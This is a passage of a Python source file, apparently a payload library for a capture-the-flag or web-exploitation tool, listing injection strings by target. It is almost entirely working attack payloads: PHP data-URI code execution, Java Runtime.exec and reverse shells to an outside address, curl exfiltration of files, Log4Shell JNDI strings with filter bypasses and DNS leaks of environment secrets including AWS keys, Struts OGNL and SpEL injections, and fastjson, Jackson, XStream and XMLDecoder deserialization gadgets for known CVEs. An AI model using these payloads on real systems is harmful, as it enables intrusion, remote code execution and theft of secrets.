    "data://text/plain;base64," + _b64s("<?php highlight_file('flag.php');?>"),
    "data:application/x-httpd-php;base64," + _b64s("<?php echo shell_exec('id');?>"),
    "data:;base64," + _b64s("<?php echo getenv('FLAG');?>"),
    # already percent-encoded inside the data URI (the wrapper decodes it)
    "data://text/plain,%3C%3Fphp%20system(%27cat%20/flag%27)%3F%3E",
    # PHP-CGI argument injection: prepend a data URI to every script
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3ddata:;base64," + _b64s("<?php system('id');die();?>")
     .replace("+", "%2b").replace("=", "%3d"), *RQ),
    # .user.ini written by an upload challenge
    "auto_prepend_file=data:;base64," + _b64s("<?php system($_GET['c']);?>"),
]

# ---- java: java-class-names. Target: Groovy / BeanShell / Nashorn eval sinks and reflection helpers
JAVA_NAMES: list[Entry] = [
    'java.lang.Runtime.getRuntime().exec("cat /flag")',
    # "Runtime" not allowed as a literal identifier: reflection
    'Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("cat /flag")',
    'Class.forName("java.la"+"ng.Run"+"time").getRuntime().exec("cat /flag")',
    'Runtime.class.getMethod("exec",String.class).invoke(Runtime.getRuntime(),"cat /flag")',
    '((java.lang.Runtime)java.lang.Runtime.class.getMethod("getRuntime").invoke(null)).exec("id")',
    # class names blacklisted in the input but not in nested engines: JavaScript engine from Java
    'new javax.script.ScriptEngineManager().getEngineByName("nashorn")'
    '.eval("java.lang.Runtime.getRuntime().exec(\'cat /flag\')")',
    'Thread.currentThread().getContextClassLoader().loadClass("java.lang.Runtime")'
    '.getMethod("getRuntime").invoke(null).exec("id")',
    # Java 9+: JShell evaluates a snippet
    'jdk.jshell.JShell.create().eval("new ProcessBuilder(\\"cat\\",\\"/flag\\").inheritIO().start();")',
    # no exec allowed: just read
    'new java.util.Scanner(new java.io.File("/flag")).nextLine()',
    'new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get("/flag")))',
    'org.apache.commons.io.FileUtils.readFileToString(new java.io.File("/flag"))',
    'java.lang.System.getenv().get("FLAG")',
    # sandbox challenge: drop the security manager first
    "java.lang.System.setSecurityManager(null)",
    # Groovy (Jenkins script console): String.execute()
    '"cat /flag".execute().text',
    "['bash','-c','cat /flag > /dev/tcp/203.0.113.7/9001'].execute()",
    "new groovy.lang.GroovyShell().evaluate(\"'cat /flag'.execute().text\")",
    # Jenkins pipeline sandbox bypass (Grab at compile time)
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://203.0.113.7/')\n"
    "@Grab(group='ctf', module='pwn', version='1')\nimport Pwn;",
    # Jenkins CVE-2019-1003000: an AST transformation runs at compile time, before the sandbox
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"cat /flag\")})\ndef x",
    # BeanShell: JNDI lookup
    'javax.naming.InitialContext ic = new javax.naming.InitialContext(); ic.lookup("ldap://203.0.113.7:1389/Obj");',
]

# ---- java: java-process-spawn. Target: Runtime.exec / ProcessBuilder reached from an eval or config sink
JAVA_SPAWN: list[Entry] = [
    'new ProcessBuilder("cat","/flag").start()',
    'new ProcessBuilder(new String[]{"sh","-c","cat /flag"}).redirectErrorStream(true).start()',
    # Runtime.exec(String) splits on spaces and has no shell: brace expansion and base64
    'Runtime.getRuntime().exec("bash -c {echo,' + _b64s("cat /flag > /tmp/f") + '}|{base64,-d}|{bash,-i}")',
    'Runtime.getRuntime().exec("sh -c $@|sh . echo cat /flag")',
    'Runtime.getRuntime().exec("/bin/sh -c cat${IFS}/flag")',
    # Windows host
    'Runtime.getRuntime().exec(new String[]{"cmd.exe","/c","type C:\\\\flag.txt"})',
    'new ProcessBuilder("powershell","-c","Get-Content C:\\\\flag.txt").start()',
    # blind: reverse shell
    'Runtime.getRuntime().exec(new String[]{"/bin/bash","-c","exec 5<>/dev/tcp/203.0.113.7/4444;'
    'cat <&5|while read l;do $l 2>&5 >&5;done"})',
    'java.lang.Runtime.getRuntime().exec("nc 203.0.113.7 4444 -e /bin/sh").waitFor()',
    'new ProcessBuilder(java.util.Arrays.asList("curl","-F","f=@/flag","http://203.0.113.7/")).start()',
    'Runtime.getRuntime().exec("wget http://203.0.113.7/s -O /tmp/s")',
    # setuid helper binary
    'new ProcessBuilder("/readflag").inheritIO().start().waitFor()',
    # "Runtime" and "ProcessBuilder" blacklisted: ProcessImpl.start through reflection
    'Class c=Class.forName("java.lang.ProcessImpl");java.lang.reflect.Method m=c.getDeclaredMethod("start",'
    'String[].class,java.util.Map.class,String.class,Class.forName("[Ljava.lang.ProcessBuilder$Redirect;"),'
    'boolean.class);m.setAccessible(true);m.invoke(null,new String[]{"cat","/flag"},null,null,null,false);',
    # no double quotes: the command from a char array
    "Runtime.getRuntime().exec(String.valueOf(new char[]{'c','a','t',' ','/','f','l','a','g'}))",
    # output wanted in the response
    'new java.util.Scanner(Runtime.getRuntime().exec("cat /flag").getInputStream()).useDelimiter("\\\\A").next()',
    # H2 console: compile a Java alias, then call it
    'CREATE ALIAS SHELLEXEC AS $$ String shellexec(String cmd) throws java.io.IOException { '
    'java.util.Scanner s = new java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream())'
    '.useDelimiter("\\\\A"); return s.hasNext() ? s.next() : ""; }$$;CALL SHELLEXEC(\'cat /flag\')',
]

# ---- java: java-serialization. Target: ObjectInputStream.readObject on a parameter or cookie
RAW = ("query", "rs-raw-body")
JAVA_SER: list[Entry] = [
    # raw stream percent-encoded (no encoding layer on the server)
    (_latin(SER_CC6_FLAG), *RAW),
    (_latin(SER_URLDNS), "form", "rs-form"),
    (_latin(SER_CC6_CURL), "param-name", "rs-query"),
    # base64 (rO0AB...) in a cookie or parameter
    _b64(SER_CC6_FLAG),
    _b64(SER_URLDNS),
    _b64(SER_CC6_SHELL),
    # base64url without padding (JWT-style "session" field)
    base64.urlsafe_b64encode(SER_URLDNS_2).decode().rstrip("="),
    # hex-decoding endpoint, lower and upper case
    SER_CC6_CURL.hex(),
    SER_URLDNS_2.hex().upper(),
    # gzip then base64 (JSF ViewState, some "remember me" cookies)
    base64.b64encode(gzip.compress(SER_CC6_WRITE, mtime=0)).decode(),
    # MIME base64 with line breaks (the decoder skips them; the prefix check does not)
    "\r\n".join(_b64(SER_CC6_WRITE)[i:i + 76] for i in range(0, len(_b64(SER_CC6_WRITE)), 76)),
    # leading whitespace: the filter checks startswith("rO0AB"), commons-codec ignores it
    "  " + _b64(SER_CC6_CURL),
    # gzip + base64 of the DNS probe
    base64.b64encode(gzip.compress(SER_URLDNS, mtime=0)).decode(),
    # "rO0AB" blacklisted, the app decodes twice
    base64.b64encode(_b64(SER_CC6_FLAG).encode()).decode(),
    # raw body of an application/x-java-serialized-object endpoint
    (_latin(SER_URLDNS_2), "query", "rs-raw-body"),
]

# ---- java: java-deserialization-gadget. Target: the gadget libraries on the classpath (text-format carriers)
GADGETS: list[Entry] = [
    # commons-collections chain, base64, String[] exec
    _b64(SER_CC6_SHELL.replace(b"4444", b"4445")),
    # c3p0 through Jackson: a serialized CC chain inside userOverridesAsString
    ('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
     + SER_CC6_FLAG.hex() + ';"}]', *JB),
    ('{"@type":"com.mchange.v2.c3p0.JndiRefForwardingDataSource","jndiName":"ldap://203.0.113.7:1389/Obj",'
     '"loginTimeout":0}', *JB),
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://203.0.113.7:1099/Obj",'
     '"loginTimeout":0}]', *JB),
    # groovy through XStream: Expando whose hashCode is a MethodClosure on ProcessBuilder.start
    ('<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>'
     '<org.codehaus.groovy.runtime.MethodClosure><delegate class="groovy.util.Expando" reference="../../../.."/>'
     '<owner class="java.lang.ProcessBuilder"><command><string>cat</string><string>/flag</string></command>'
     '<redirectErrorStream>false</redirectErrorStream></owner><resolveStrategy>0</resolveStrategy>'
     '<directive>0</directive><parameterTypes/><maximumNumberOfParameters>0</maximumNumberOfParameters>'
     '<method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties>'
     '</groovy.util.Expando><int>1</int></entry></map>', *XB),
    ('<org.codehaus.groovy.runtime.MethodClosure><delegate class="string">cat /flag</delegate>'
     '<owner class="string">cat /flag</owner><method>execute</method></org.codehaus.groovy.runtime.MethodClosure>',
     *XB),
    # rome through XStream: EqualsBean -> ToStringBean -> JdbcRowSetImpl getters -> JNDI
    ('<map><entry><com.rometools.rome.feed.impl.EqualsBean><beanClass>com.rometools.rome.feed.impl.ToStringBean'
     '</beanClass><obj class="com.rometools.rome.feed.impl.ToStringBean"><beanClass>com.sun.rowset.JdbcRowSetImpl'
     '</beanClass><obj class="com.sun.rowset.JdbcRowSetImpl"><dataSource>ldap://203.0.113.7:1389/Obj</dataSource>'
     '</obj></obj></com.rometools.rome.feed.impl.EqualsBean><string>x</string></entry></map>', *XB),
    # spring through Jackson: PropertyPathFactoryBean + SimpleJndiBeanFactory
    ('["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":'
     '"ldap://203.0.113.7:1389/Obj","propertyPath":"x","beanFactory":["org.springframework.jndi.support.'
     'SimpleJndiBeanFactory",{"shareableResources":["ldap://203.0.113.7:1389/Obj"]}]}]', *JB),
    # spring through fastjson: DefaultBeanFactoryPointcutAdvisor
    ('{"@type":"org.springframework.aop.support.DefaultBeanFactoryPointcutAdvisor","beanFactory":{"@type":'
     '"org.springframework.jndi.support.SimpleJndiBeanFactory","shareableResources":["ldap://203.0.113.7/Obj"]},'
     '"adviceBeanName":"ldap://203.0.113.7/Obj"}', *JB),
    # hibernate through Jackson
    ('["org.hibernate.jmx.StatisticsService",{"sessionFactoryJNDIName":"ldap://203.0.113.7:1389/Obj"}]', *JB),
    # JDK TemplatesImpl (the jdk7u21 core) through Jackson, with a real translet class
    ('["com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",{"transletBytecodes":["' + CLASS_TRANSLET
     + '"],"transletName":"ctf","outputProperties":{}}]', *JB),
    # spring-tx: JtaTransactionManager looks up its UserTransaction on deserialization
    ('["org.springframework.transaction.jta.JtaTransactionManager",{"userTransactionName":'
     '"ldap://203.0.113.7:1389/Obj"}]', *JB),
    # openjpa through Jackson
    ('["org.apache.openjpa.ee.JNDIManagedRuntime",{"transactionManagerName":"ldap://203.0.113.7:1389/Obj",'
     '"rollbackOnly":null}]', *JB),
    # c3p0 through SnakeYAML
    "!!com.mchange.v2.c3p0.WrapperConnectionPoolDataSource {userOverridesAsString: \"HexAsciiSerializedMap:"
    + SER_CC6_CURL.hex() + ';\"}',
    # commons-configuration JNDI through Jackson
    ('["org.apache.commons.configuration.JNDIConfiguration",{"prefix":"ldap://203.0.113.7:1389/Obj"}]', *JB),
    # commons-collections through XStream: LazyMap.get(key) calls key.start() on a ProcessBuilder key
    ('<map><entry><org.apache.commons.collections.keyvalue.TiedMapEntry><key class="java.lang.ProcessBuilder">'
     '<command><string>cat</string><string>/flag</string></command></key>'
     '<map class="org.apache.commons.collections.map.LazyMap"><factory class="org.apache.commons.collections.'
     'functors.InvokerTransformer"><iMethodName>start</iMethodName><iParamTypes/><iArgs/></factory>'
     '<map class="java.util.HashMap"/></map></org.apache.commons.collections.keyvalue.TiedMapEntry>'
     '<string>y</string></entry></map>', *XB),
]

# ---- java: log4shell. Target: Log4j 2 < 2.15 (2.16 for the DoS) logging headers and form fields
LOG4J_PLACES = (["header:User-Agent", "header:Referer", "header:X-Api-Version", "query", "json"],
                ["rs-header:User-Agent", "rs-header:X-Forwarded-For", "rs-header:Referer", "rs-query", "rs-form"])
LOG4J: list[Entry] = [
    "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/" + _b64s("cat /flag | nc 203.0.113.7 80") + "}",
    "${jndi:rmi://203.0.113.7:1099/ctf}",
    # "jndi" blacklisted: lower/upper lookups per letter
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://203.0.113.7/a}",
    "${${upper:j}ndi:ldap://203.0.113.7/b}",
    # "${jndi" and "lower" blacklisted: defaults of missing env and k8s/sd lookups
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/c}",
    "${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.7/h}",
    "${${::-j}ndi:${::-r}mi://203.0.113.7/l}",
    "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.7/m}",
    # date lookup with quoted pattern letters
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/g}",
    # Turkish dotless i upper-cases to I
    "${jnd${upper:\u0131}:ldap://203.0.113.7/j}",
    # no egress except DNS: exfiltrate the flag in the hostname
    "${jndi:dns://${env:FLAG}.oob.attacker.example/x}",
    "${jndi:ldap://${sys:java.version}.${hostName}.oob.attacker.example/d}",
    "${jndi:ldap://203.0.113.7/${env:AWS_ACCESS_KEY_ID}/${env:AWS_SECRET_ACCESS_KEY}}",
    # other JNDI protocols
    "${jndi:ldaps://203.0.113.7:636/e}",
    "${jndi:iiop://203.0.113.7:900/f}",
    "${jndi:corba://203.0.113.7:1050/q}",
    # 2.15.0 allowed only localhost: the "#" trick (CVE-2021-45046)
    "${jndi:ldap://127.0.0.1#oob.attacker.example:1389/i}",
    # 2.16.0 recursion DoS (CVE-2021-45105)
    "${${::-${::-$${::-j}}}}",
    # the app URL-decodes twice
    "%24%7Bjndi:ldap://203.0.113.7/k%7D",
]

# ---- java: expression-language. Target: OGNL (Struts 2, Confluence), SpEL (Spring), MVEL (Unomi), JEXL,
# JSP/JSF Unified EL, Nexus
EL: list[Entry] = [
    # Struts 2 S2-045: OGNL in the multipart Content-Type
    ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
     "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
     "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
     "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
     "(#context.setMemberAccess(#dm)))).(#cmd='cat /flag').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
     "(#p.redirectErrorStream(true)).(#ps=#p.start()).(@org.apache.commons.io.IOUtils@copy(#ps.getInputStream(),"
     "@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}",
     "header:Content-Type", "rs-header:Content-Type"),
    # Struts 2 S2-057: OGNL in the namespace (URL path)
    ("${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)."
     "(#cr=#ct['com.opensymphony.xwork2.ActionContext.container'])."
     "(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear())."
     "(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime()"
     ".exec('cat /flag')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}", "path", "rs-query"),
    # Confluence CVE-2022-26134: OGNL in the URL path, result in a response header
    ("${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"cat /flag\")"
     ".getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
     ".setHeader(\"X-Cmd-Response\",#a))}", "path", "rs-query"),
    # Struts 2 S2-061/062: sandbox bypass through BeanMap and the Tomcat InstanceManager
    "%{(#im=#application['org.apache.tomcat.InstanceManager']).(#bm=#im.newInstance('org.apache.commons."
    "collections.BeanMap')).(#bm.setBean(#request.get('struts.valueStack'))).(#bm.setBean(#bm.get('context')))."
    "(#bm.setBean(#bm.get('memberAccess'))).(#bm.put('excludedPackageNames',#im.newInstance('java.util.HashSet')))."
    "(#bm.put('excludedClasses',#im.newInstance('java.util.HashSet'))).(#arglist=#im.newInstance("
    "'java.util.ArrayList')).(#arglist.add('cat /flag')).(#execute=#im.newInstance("
    "'freemarker.template.utility.Execute')).(#execute.exec(#arglist))}",
    # Struts 2 S2-005 style: "#" filtered, written as \u0023 in parameter names
    ("('\\u0023context[\\'xwork.MethodAccessor.denyMethodExecution\\']\\u003dfalse')(bla)(bla)&"
     "('\\u0023_memberAccess.excludeProperties\\u003d@java.util.Collections@EMPTY_SET')(kxlzx)(kxlzx)&"
     "('\\u0023rt\\u003d@java.lang.Runtime@getRuntime().exec(\\'cat%20/flag\\')')(bla)(bla)", *RQ),
    # Struts 2 S2-059: double evaluation of a tag attribute, first stage clears the blacklists
    "%{(#context=#attr['struts.valueStack'].context).(#container=#context['com.opensymphony.xwork2.ActionContext."
    "container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.setExcludedClasses('')).(#ognlUtil.setExcludedPackageNames(''))}",
    # Spring Boot 1.x whitelabel error page resolves ${} in the message
    '${new java.lang.ProcessBuilder(new String[]{"cat","/flag"}).start()}',
    # SpEL
    "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','cat /flag'})}",
    # SpEL without quotes: characters from codes
    "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat("
    "T(java.lang.Character).toString(100)))",
    # SpEL with "T(" blacklisted
    "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('cat /flag')}",
    "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('cat /flag').getInputStream()).next()",
    # Spring Cloud Function CVE-2022-22963: SpEL in a routing header
    ('T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")',
     "header:spring.cloud.function.routing-expression", "rs-header:spring.cloud.function.routing-expression"),
    # Spring Cloud Gateway CVE-2022-22947: SpEL in an actuator route definition
    ('{"id":"ctf","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T('
     'org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]'
     '{\\"cat\\",\\"/flag\\"}).getInputStream()))}"}}],"uri":"http://example.com"}', *JB),
    # MVEL template orb and Apache Unomi CVE-2020-13942
    "@{java.lang.Runtime.getRuntime().exec('cat /flag')}",
    ('{"filters":[{"id":"x","filters":[{"condition":{"parameterValues":{"":"script::Runtime r = '
     'Runtime.getRuntime(); r.exec(\\"cat /flag\\");"},"type":"profilePropertyCondition"}}]}],"sessionId":"x"}',
     *JB),
    # JEXL 2 and 3
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('cat /flag')",
    "new('java.lang.ProcessBuilder',['cat','/flag']).start()",
    # JSP EL 2.2 method calls
    '${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke("".getClass()'
    '.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),"cat /flag")}',
    # JSP EL without quotes: the strings come from other parameters
    "${pageContext.getClass().getClassLoader().loadClass(param.c).getMethod(param.m).invoke(null).exec(param.x)}",
    # JSF
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime')"
    ".invoke(null).exec('cat /flag')}",
    # Nexus CVE-2020-10199: "$\\A{" slips past the EL escaping
    ('{"name":"internal","online":true,"group":{"memberNames":["$\\\\A{\'\'.getClass().forName('
     '\'java.lang.Runtime\').getMethods()[6].invoke(null).exec(\'cat /flag\')}"]}}', *JB),
]

# ---- java: polymorphic-deserialization. Target: XStream, java.beans.XMLDecoder (WebLogic), fastjson, Jackson
_XSTREAM_IMAGEIO = (
    '<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.'
    'bind.v2.runtime.unmarshaller.Base64Data"><dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.'
    'xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.'
    'NullCipher"><initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.'
    'FilterIterator"><iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$'
    'EmptyIterator"/><next class="java.lang.ProcessBuilder"><command><string>cat</string><string>/flag</string>'
    '</command><redirectErrorStream>false</redirectErrorStream></next></iter><filter class="javax.imageio.'
    'ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/>'
    '</method><name>foo</name></filter><next class="string">foo</next></serviceIterator><lock/></cipher><input '
    'class="java.lang.ProcessBuilder$NullInputStream"/><ibuffer></ibuffer><done>false</done><ostart>0</ostart>'
    '<ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/>'
    '</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.'
    'objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/></entry><entry><jdk.nashorn.'
    'internal.objects.NativeString reference="../../entry/jdk.nashorn.internal.objects.NativeString"/>'
    '<jdk.nashorn.internal.objects.NativeString reference="../../entry/jdk.nashorn.internal.objects.NativeString"/>'
    '</entry></map>')
POLY: list[Entry] = [
    # XStream < 1.4.7: sorted-set + EventHandler proxy
    ('<sorted-set><string>ctf</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler '
     'class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>cat</string>'
     '<string>/flag</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>', *XB),
    # XStream (Struts REST plugin S2-052): the ImageIO filter chain
    (_XSTREAM_IMAGEIO, *XB),
    # WebLogic wls-wsat CVE-2017-10271: XMLDecoder inside the SOAP WorkContext header
    ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext '
     'xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder">'
     '<void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>'
     '/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>cat /flag &gt; '
     'servers/AdminServer/tmp/_WL_internal/wls-wsat/f.txt</string></void></array><void method="start"/></void>'
     '</java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>', *XB),
    ('<?xml version="1.0" encoding="UTF-8"?><java version="1.8.0" class="java.beans.XMLDecoder"><object '
     'class="java.lang.Runtime" method="getRuntime"><void method="exec"><array class="java.lang.String" length="3">'
     '<void index="0"><string>sh</string></void><void index="1"><string>-c</string></void><void index="2">'
     '<string>cat /flag</string></void></array></void></object></java>', *XB),
    # "object" and "void" blacklisted (CVE-2019-2725 style): new and method elements
    ('<java><new class="java.lang.ProcessBuilder"><string>cat</string><string>/flag</string><method name="start"/>'
     '</new></java>', *XB),
    # fastjson <= 1.2.24
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.7:1099/Exploit",'
     '"autoCommit":true}', *JB),
    # fastjson 1.2.47: java.lang.Class puts the class in the cache first
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
     '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.7:1389/Exploit","autoCommit":true}}', *JB),
    # fastjson 1.2.41-1.2.43: descriptor-style names the blacklist misses
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
     '"autoCommit":true}', *JB),
    ('{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;","dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
     '"autoCommit":true}', *JB),
    ('{"@type":"[com.sun.rowset.JdbcRowSetImpl"[{,"dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
     '"autoCommit":true}', *JB),
    # WAF matches "@type": unicode and \x escapes fastjson decodes
    ('{"\\u0040\\u0074\\u0079\\u0070\\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
     '"ldap://203.0.113.7:1389/Exploit","autoCommit":true}', *JB),
    ('{"\\x40type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
     '"autoCommit":true}', *JB),
    # fastjson with Feature.SupportNonPublicField: TemplatesImpl with a real translet
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + CLASS_TRANSLET
     + '"],"_name":"ctf","_tfactory":{},"_outputProperties":{}}', *JB),
    # Jackson default typing gadgets
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.7:1389/Exploit"}]', *JB),
    ('["org.springframework.context.support.FileSystemXmlApplicationContext","http://203.0.113.7/spel.xml"]', *JB),
    ('{"id":1,"cfg":["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://203.0.113.7:1389/Exploit"}]}', *JB),
    ('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://203.0.113.7:1389/Exploit"}]', *JB),
    ('["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;'
     'INIT=RUNSCRIPT FROM \'http://203.0.113.7/inject.sql\'"}]', *JB),
    # SnakeYAML global tags
    "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://203.0.113.7:1389/Exploit', autoCommit: true}",
    ('{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.7:1389/Exploit",'
     '"autoCommit":true}', *JB),
]

# ---- java: class-loading. Target: code that loads classes from attacker bytes or URLs (Groovy, SpEL, Nashorn,
# SnakeYAML, Jolokia, Spring/Struts data binding)
CLASSLOAD: list[Entry] = [
    'new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("http://203.0.113.7/x.jar")})'
    '.loadClass("Pwn").newInstance()',
    'java.net.URLClassLoader.newInstance(new java.net.URL[]{new java.net.URL("jar:http://203.0.113.7/e.jar!/")})'
    '.loadClass("E").getConstructor().newInstance()',
    # SnakeYAML Yaml.load: ScriptEngineManager + URLClassLoader (service loader runs the jar)
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL '
    '["http://203.0.113.7/yaml-payload.jar"]]]]',
    # Spring4Shell CVE-2022-22965: Tomcat access log turned into a JSP writer
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22ctf%22"
     ".equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime()"
     ".exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di"
     "&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"
     "&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT"
     "&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
     "&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat=", *RF),
    # Struts 2 S2-021: "class.classLoader" blacklisted, bracket notation
    ("class['classLoader']['resources']['dirContext']['docBase']=/", *RQ),
    # Spring CVE-2010-1622: a remote jar as the class loader's URL
    ("class.classLoader.URLs[0]=jar:http://203.0.113.7/spring-exploit.jar!/", *RQ),
    # SpEL: define a class from base64 bytes
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Pwn',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + CLASS_EXEC + "'),T(java.lang.Thread).currentThread().getContextClassLoader())",
    # Nashorn: ClassLoader.defineClass through reflection
    'var b=java.util.Base64.getDecoder().decode("' + CLASS_EXEC + '");var m=java.lang.ClassLoader.class'
    '.getDeclaredMethod("defineClass",java.lang.String.class,Java.type("byte[]").class,java.lang.Integer.TYPE,'
    'java.lang.Integer.TYPE);m.setAccessible(true);m.invoke(java.lang.Thread.currentThread()'
    '.getContextClassLoader(),"Pwn",b,0,b.length).newInstance();',
    # Java 9+: Lookup.defineClass (same package as the lookup class)
    'java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode("'
    + CLASS_EXEC + '")).newInstance()',
    # Groovy: compile a class at runtime
    "this.class.classLoader.parseClass('class P{static{\"cat /flag\".execute()}}').newInstance()",
    # fastjson 1.2.24 without outbound network: tomcat-dbcp + the BCEL class loader
    ('{"x":{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
     '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"' + BCEL_EXEC + '"}}', *JB),
    # Jolokia: MLet loads MBeans from a remote URL
    ('{"type":"exec","mbean":"DefaultDomain:type=MLet","operation":"getMBeansFromURL",'
     '"arguments":["http://203.0.113.7/mlet"]}', *JB),
    # Jackson: Spring context from a remote bean XML
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.7/beans.xml"]', *JB),
    # SpEL: load through the system class loader
    "T(java.lang.ClassLoader).getSystemClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime')"
    ".invoke(null).exec('cat /flag')",
    'Class.forName("Pwn",true,new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('
    '"http://203.0.113.7/")}))',
]

# ---- java: jsp-upload. Target: Tomcat / Jetty serving uploaded files as JSP. The payload is the file body; the
# file name beats the extension filter (JSP_NAMES, in turn)
JSP_NAMES = ["shell.jsp", "cmd.jspx", "avatar.png.jsp", "x.JsP", "x.jsp.", "x.jsp::$DATA", "x.jsp;.png",
